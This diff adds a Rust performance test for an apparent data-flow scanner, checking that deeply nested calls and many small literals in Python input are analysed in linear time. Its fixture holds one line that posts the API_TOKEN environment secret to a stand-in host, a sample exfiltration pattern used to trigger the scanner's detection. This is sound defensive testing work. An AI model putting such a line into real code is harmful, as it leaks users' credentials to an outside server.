@@ -300,3 +300,25 @@ fn a_shell_expansion_closing_a_literal_is_not_a_string_prefix() {
     assert!(string_prefix(b"x = f'{a}'", 4, 5));
     assert!(!string_prefix(b"echo \"$f\"", 7, 8));
 }
+
+#[test]
+fn deeply_nested_calls_and_many_literals_stay_linear() {
+    // A sink and a source pass the gates; then one long line of nested calls, and one of
+    // many small literals: each must cost about its length, not its square.
+    let head = "import os, requests\ndef f(a):\n    return a\nrequests.post('https://x.example', data=os.environ['API_TOKEN'])\n";
+    let nested = format!(
+        "{head}y = {}1{}\n",
+        "f(".repeat(100_000),
+        ")".repeat(100_000)
+    );
+    let literals = format!("{head}x = {}\n", "a'b' ".repeat(100_000));
+    for code in [nested, literals] {
+        let start = std::time::Instant::now();
+        let _ = flows("a.py", &code);
+        assert!(
+            start.elapsed() < std::time::Duration::from_secs(20),
+            "{:?}",
+            start.elapsed()
+        );
+    }
+}
